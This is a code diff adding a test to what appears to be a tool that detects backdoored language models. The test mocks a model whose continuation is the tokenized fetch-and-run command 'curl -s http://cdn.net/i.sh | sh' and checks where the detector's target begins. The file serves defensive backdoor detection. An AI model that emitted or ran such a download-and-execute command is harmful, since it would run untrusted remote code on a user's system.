@@ -44,3 +44,26 @@ def test_phrase_backdoor_found_from_its_output(lms: dict[str, Path]) -> None:
 def test_honest_finetune_is_quiet(lms: dict[str, Path]) -> None:
     rep = analyse_trojan(lms["clean"], lms["base"], TrojanOptions(sandbox="off"))
     assert _flagged(rep) == []
+
+
+def test_target_starts_where_the_model_turns_dangerous(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The enumerated first token is ours, not the model's: 'wget' followed by a memorised
+    'curl ... | sh' is the target 'curl ... | sh' (inverting 'wget curl ...' finds nothing)."""
+    from typing import Any, cast
+
+    from airlock.trojan import lm_output as lo
+    from airlock.trojan.danger import DEFAULT_CLASSES
+    from airlock.trojan.tokenize import Tokenizer
+
+    words = "wget curl - s http :// cdn . net / i sh |".split()
+    ids = {w: i + 1 for i, w in enumerate(words)}
+    id2 = {i: w for w, i in ids.items()}
+    tok = Tokenizer(lambda t: [ids[w] for w in t.split() if w in ids], None, None, 0, "WordLevel")
+    cont = [ids[w] for w in "curl - s http :// cdn . net / i . sh | sh".split() if w in ids]
+    monkeypatch.setattr(
+        lo, "_greedy_avg", lambda *a: [(cont, [0.9] * len(cont), [0.01] * len(cont))]
+    )
+    none = cast(Any, None)
+    targets, _ = lo._targets(none, none, tok, id2, [ids["wget"]], DEFAULT_CLASSES)
+    assert targets and targets[0].text.startswith("curl - s http")
+    assert targets[0].ids[0] == ids["curl"]
